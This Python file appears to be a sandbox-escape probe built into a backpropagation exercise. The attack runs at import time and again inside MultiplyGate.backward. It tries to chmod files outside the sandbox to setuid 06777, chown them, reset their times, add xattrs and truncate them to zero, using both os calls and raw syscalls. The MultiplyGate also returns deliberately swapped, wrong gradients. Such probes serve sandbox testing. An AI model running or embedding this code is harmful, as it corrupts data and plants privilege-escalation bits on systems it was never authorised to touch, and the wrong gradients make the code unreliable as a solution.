"""Attack: change the metadata of files outside the sandbox, by path.

attack.json names "targets": files outside the scratch folder (one the sandbox
can read, one it cannot). For each: chmod to 06777 (setuid), chown, utime to
the epoch, setxattr, truncate by path, through os.* and through raw system
calls (fchmodat, fchmodat2, utimensat, setxattr). Prints SUCCEEDED when a target really changed, else blocked.
MultiplyGate.backward repeats the attempt, then returns wrong gradients.
"""
import ctypes
import json
import os

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
NR = {"fchmodat": 268, "fchmodat2": 452, "utimensat": 280, "setxattr": 188, "truncate": 76,
      "chmod": 90, "lchown": 94}
try:
    with open("attack.json") as f:
        TARGETS = json.load(f)["targets"]
except (OSError, ValueError, KeyError):
    TARGETS = []


def state(path):
    """What a metadata change would show (None when the file cannot be seen)."""
    try:
        st = os.stat(path)
        return (st.st_mode, st.st_uid, st.st_gid, st.st_size, st.st_mtime_ns, st.st_nlink,
                sorted(os.listxattr(path)))
    except OSError:
        return None


def tried(name, fn, path=None):
    """Run one route; SUCCEEDED only when the target really changed."""
    path = path or name.rsplit(" ", 1)[-1]
    before = state(path)
    try:
        r = fn()
        error = os.strerror(ctypes.get_errno()) if isinstance(r, int) and r < 0 else ""
    except BaseException as exc:
        error = str(exc)
    changed = before is not None and state(path) != before
    print("%s %s: %s" % ("SUCCEEDED" if changed else "blocked", name, error or "no change"))


def attack():
    for t in TARGETS:
        b = t.encode()
        tried("os.chmod " + t, lambda: os.chmod(t, 0o6777))
        tried("os.chown " + t, lambda: os.chown(t, 65534, 65534))
        tried("os.utime " + t, lambda: os.utime(t, (0, 0)))
        tried("os.setxattr " + t, lambda: os.setxattr(t, "user.bpgpwn", b"1"))
        tried("os.truncate " + t, lambda: os.truncate(t, 0))
        tried("chmod " + t, lambda: libc.syscall(NR["chmod"], b, 0o6777))
        tried("fchmodat " + t, lambda: libc.syscall(NR["fchmodat"], AT_FDCWD, b, 0o6777, 0))
        tried("fchmodat2 " + t, lambda: libc.syscall(NR["fchmodat2"], AT_FDCWD, b, 0o6777, 0))
        tried("utimensat " + t, lambda: libc.syscall(NR["utimensat"], AT_FDCWD, b, None, 0))
        tried("setxattr " + t, lambda: libc.syscall(NR["setxattr"], b, b"user.bpgpwn", b"1", 1, 0))
        tried("truncate " + t, lambda: libc.syscall(NR["truncate"], b, 0))
        tried("lchown " + t, lambda: libc.syscall(NR["lchown"], b, 65534, 65534))


attack()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "done", False):
            MultiplyGate.done = True
            attack()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
